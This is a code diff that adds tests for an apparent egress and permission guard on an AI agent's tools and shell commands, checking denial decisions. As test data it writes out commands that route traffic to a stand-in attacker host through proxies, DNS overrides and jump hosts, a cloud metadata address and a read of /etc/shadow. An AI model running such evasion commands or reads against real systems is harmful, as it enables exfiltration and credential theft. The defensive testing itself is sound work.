@@ -172,7 +172,37 @@ def test_hosts_are_denied_for_tools_and_commands_alike(tmp_path):
     assert "[egress-denied]" in shell("wget https://a.evil.test/x").reason
     assert "[egress-denied]" in shell("scp a.txt u@a.evil.test:").reason
     assert "[egress-denied]" in decided("WebFetch", "fetch", {"url": "https://a.evil.test"}).reason
+    for command in (
+        "curl -x http://p.evil.test:3128 https://good.test/x",
+        "https_proxy=p.evil.test:3128 pip download https://good.test/x.whl",
+        "curl --resolve good.test:443:a.evil.test https://good.test/x",
+        "curl --connect-to ::a.evil.test:443 https://good.test/x",
+        "curl 'https://{good.test,a.evil.test}/x'",
+        "echo url=https://a.evil.test | curl -K -",
+        "ssh -J a.evil.test web1",
+        "psql -h a.evil.test shop",
+        "http_proxy=a.evil.test python3 -c 'import urllib.request as u; u.urlopen(\"http://good.test\")'",
+    ):
+        assert "[egress-denied]" in shell(command).reason, command
     assert shell("wget https://good.test/x").decision == "proceed"
+
+
+def test_a_host_that_cannot_be_read_is_asked_about_for_tools_and_commands_alike():
+    for url in ("http://[", "http://a b/", "http://example.com%00.example.org/"):
+        assert "[egress-unreadable]" in decided("WebFetch", "fetch", {"url": url}).reason
+        assert "[egress-unreadable]" in shell(f"curl '{url}'").reason
+    for command in ('curl "$API_URL/x"', "curl https://$HOST/health", "curl http://localhost:$PORT/"):
+        assert shell(command).decision == "proceed"
+
+
+def test_a_host_is_seen_without_an_address():
+    assert "[egress-metadata]" in decided("mcp__http__get", "mcp", {"host": "169.254.169.254"}).reason
+
+
+def test_a_file_address_is_read_as_the_file(place):
+    assert "[path-secret-read]" in decided("WebFetch", "fetch", {"url": "file:///etc/shadow"}).reason
+    assert shell("curl file:///etc/shadow").decision == shell("cat /etc/shadow").decision == "deny"
+    assert shell("curl file:///etc/hosts").decision == "proceed"
 
 
 def test_with_a_list_of_hosts_all_others_are_denied_known_or_not(tmp_path):
